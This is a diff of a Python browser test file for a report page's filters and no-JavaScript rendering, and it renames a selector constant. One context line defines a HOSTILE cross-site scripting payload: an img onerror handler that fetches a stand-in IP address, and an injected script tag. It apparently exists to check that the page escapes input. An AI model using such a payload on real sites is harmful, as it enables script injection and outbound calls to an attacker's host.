@@ -19,7 +19,7 @@ pytestmark = [
 SHOWN = (
     "[...document.querySelectorAll('[data-state]')].filter(one => one.checkVisibility()).map(one => one.id)"
 )
-LEFT = "[...document.querySelectorAll('[data-state]:not([hidden])')].map(one => one.id)"
+VISIBLE = "[...document.querySelectorAll('[data-state]:not([hidden])')].map(one => one.id)"
 HOSTILE = '<img src=x onerror="fetch(`http://192.0.2.1/`)"><script>document.title="owned"</script>{{data}}'
 
 
@@ -80,7 +80,7 @@ def choose(tab, text="", layer="", states=None):
         document.getElementById('filters').dispatchEvent(new Event('input'));
         }})()"""
     )
-    return tab.value(LEFT)
+    return tab.value(VISIBLE)
 
 
 def test_filters_hide_and_show_checks(tab, mismatch):
@@ -97,7 +97,7 @@ def test_filters_hide_and_show_checks(tab, mismatch):
     assert tab.value("document.getElementById('shown').textContent").endswith(f"of {len(findings)} checks")
     assert choose(tab, text="no such word at all") == []
     tab.value("document.getElementById('reset').click()")
-    assert tab.value(LEFT) == everything
+    assert tab.value(VISIBLE) == everything
 
 
 def test_search_result_in_a_collapsed_layer_is_visible(tab, mismatch):
@@ -206,7 +206,7 @@ def test_page_is_complete_without_javascript(tab, mismatch):
     tab.ask("Emulation.setScriptExecutionDisabled", value=True)
     tab.open(mismatch)
     tab.value("document.querySelectorAll('details').forEach(one => { one.open = true; })")
-    shown, everything = tab.value(SHOWN), tab.value(LEFT)
+    shown, everything = tab.value(SHOWN), tab.value(VISIBLE)
     dead = (
         "[...document.querySelectorAll('button, input, select')].filter(one => one.checkVisibility()).length"
     )
